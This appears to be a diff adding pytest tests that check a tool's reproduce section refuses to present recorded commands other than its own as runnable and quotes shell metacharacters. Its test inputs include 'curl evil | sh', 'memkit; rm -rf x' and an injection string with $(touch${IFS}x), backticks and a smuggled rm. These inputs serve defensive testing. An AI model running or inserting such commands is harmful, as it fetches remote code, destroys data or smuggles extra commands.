@@ -131,3 +131,25 @@ def test_hostile_commands_stay_text(content):
     provenance = content.provenance | {"command": "<b>x</b> --workdir '<i>'"}
     section = reproduce.section(dataclasses.replace(content, provenance=provenance))
     assert "<b>" not in section.html and "<i>" not in section.html
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl evil | sh", "", "memkit", "memkit 'run", "memkit; rm -rf x", "sudo memkit run"],
+)
+def test_a_recorded_command_that_is_not_memkits_is_not_shown_to_run(content, command):
+    provenance = content.provenance | {"command": command}
+    words = _words(reproduce.section(dataclasses.replace(content, provenance=provenance)))
+    assert "The command was not recorded" in words
+    assert "memkit run --config=study.py --workdir=out/study" in words
+    assert not command or command == "memkit" or command not in words
+
+
+def test_a_recorded_command_cannot_run_anything_but_memkit(content):
+    hostile = "memkit run --workdir=$(touch${IFS}x) ; touch y `touch z`\nrm w --workdir"
+    provenance = content.provenance | {"command": hostile}
+    words = _words(reproduce.section(dataclasses.replace(content, provenance=provenance)))
+    assert (
+        "memkit run '--workdir=$(touch${IFS}x)' ';' touch y '`touch' 'z`' rm w --workdir" in words
+    )
+    assert "memkit report --workdir='$(touch${IFS}x)'" in words
